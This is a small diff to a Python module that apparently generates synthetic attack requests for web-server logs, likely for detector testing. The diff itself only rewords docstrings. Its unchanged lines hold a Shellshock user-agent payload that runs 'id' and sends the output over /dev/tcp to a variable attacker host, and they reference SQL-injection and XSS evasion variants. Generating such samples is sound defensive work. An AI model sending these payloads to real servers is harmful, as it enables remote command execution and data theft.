@@ -220,7 +220,7 @@ _MORE_WRITINGS = {"sql_injection": (_mix_case, _comment), "xss": (_mix_case,)}
 
 
 def make_requests(name: str, dice: np.random.Generator) -> list[bytes]:
-    """Different requests of one class, as they stand in a log; in random order unless order is the point."""
+    """Return different requests of one class as logged, in random order unless order is the point."""
     made = list(dict.fromkeys(_MAKERS[name](name)))
     if name == "enumeration":
         return made
@@ -228,7 +228,7 @@ def make_requests(name: str, dice: np.random.Generator) -> list[bytes]:
 
 
 def make_agent_payloads() -> list[bytes]:
-    """Agents that are attacks themselves."""
+    """Return agents that are attacks themselves."""
     shell = b"() { :;}; /bin/bash -c 'id > /dev/tcp/%s/80'" % _LAIR.encode()
     return [escape_as_apache(each) for each in (shell, *(text.encode() for text in _JAVA[:3]))]
 
